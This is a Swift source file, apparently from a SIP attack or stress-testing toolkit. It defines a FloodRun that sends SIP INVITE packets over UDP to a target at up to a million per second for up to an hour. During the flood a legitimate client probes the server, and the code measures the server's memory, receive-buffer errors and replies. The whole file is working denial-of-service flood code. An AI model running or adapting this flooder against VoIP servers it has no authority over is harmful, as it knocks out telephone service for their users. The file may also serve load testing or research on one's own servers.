import SIPAttackSupport

/// One flood run: the legitimate client probes alone for `baseline`
/// seconds, then the INVITEs go out for `duration` seconds while it goes on,
/// then the run waits for the server's last answers (retransmitted 407s)
/// before it stops.
public struct FloodRun {
    public let configuration: FloodConfiguration

    public init(_ configuration: FloodConfiguration) throws {
        guard configuration.rate > 0, configuration.rate <= 1_000_000 else {
            throw AttackToolError.badSetting("the rate must be above 0 and at most 1000000 per second")
        }
        guard configuration.duration > 0, configuration.duration <= 3600, configuration.baseline >= 0,
              configuration.lingerMax >= 0, configuration.lingerIdle >= 0, configuration.probeInterval > 0,
              configuration.probeTimeout > 0 else {
            throw AttackToolError.badSetting("the duration must be from 0 to 3600 s, the probe interval and timeout above 0, the others 0 or more")
        }
        self.configuration = configuration
    }

    public func run() throws -> FloodSummary {
        let c = configuration
        let runID = String(UInt64(MonotonicClock.now() * 1e6) % 2_176_782_336, radix: 36)
        let socket = try UDPSocket(source: c.floodSource, target: c.target)
        socket.enlargeReceiveBuffer(32 << 20)
        let builder = FloodInviteBuilder(source: c.floodSource.host, port: socket.localPort, callee: c.callee, domain: c.domain, run: runID)
        let counters = FloodCounters()
        let phase = FloodPhaseSwitch()
        let recorder = ProbeRecorder()
        let stop = StopFlag()
        let process = c.pid.map(TargetProcess.init)
        let probe = RegisterProbe(configuration: c, run: runID)
        var summary = FloodSummary(configuration: c)
        summary.memoryBefore = process?.residentBytes
        recorder.recordMemory(summary.memoryBefore)
        let udpBefore = UDPCounters.read()
        let start = MonotonicClock.now()
        var floodStart = start
        var floodEnd = start
        ScopedThreads.run([
            (name: "sip-flood-probe", body: { probe.run(phase: phase, recorder: recorder, stop: stop) }),
            (name: "sip-flood-receiver", body: { FloodReceiver.run(socket: socket, counters: counters, stop: stop) }),
        ], stop: stop.stop) {
            MonotonicClock.sleep(seconds: c.baseline)
            phase.set(.flood)
            floodStart = MonotonicClock.now()
            FloodSender.run(socket: socket, builder: builder, rate: c.rate, duration: c.duration, counters: counters)
            floodEnd = MonotonicClock.now()
            phase.set(.after)
            while true {
                let now = MonotonicClock.now()
                if now - floodEnd >= c.lingerMax { break }
                if now - max(counters.lastAnswerAt ?? floodEnd, floodEnd) >= c.lingerIdle { break }
                MonotonicClock.sleep(seconds: 0.1)
            }
            summary.lingered = MonotonicClock.now() - floodEnd
        }
        summary.memoryAfter = process?.residentBytes
        recorder.recordMemory(summary.memoryAfter)
        summary.memoryPeak = recorder.memory.peak
        if let before = udpBefore, let after = UDPCounters.read() {
            summary.udpReceiveBufferErrors = after.receiveBufferErrors - before.receiveBufferErrors
        }
        summary.baselineElapsed = floodStart - start
        summary.floodElapsed = floodEnd - floodStart
        summary.invitesSent = counters.sent.load(ordering: .relaxed)
        summary.bytesOut = counters.bytesOut.load(ordering: .relaxed)
        summary.sendErrors = counters.sendErrors.load(ordering: .relaxed)
        summary.answers = counters.received.load(ordering: .relaxed)
        summary.bytesIn = counters.bytesIn.load(ordering: .relaxed)
        summary.statuses = counters.statusCounts
        summary.lastAnswerAfterFlood = counters.lastAnswerAt.map { $0 - floodEnd }
        summary.samples = recorder.samples
        return summary
    }
}
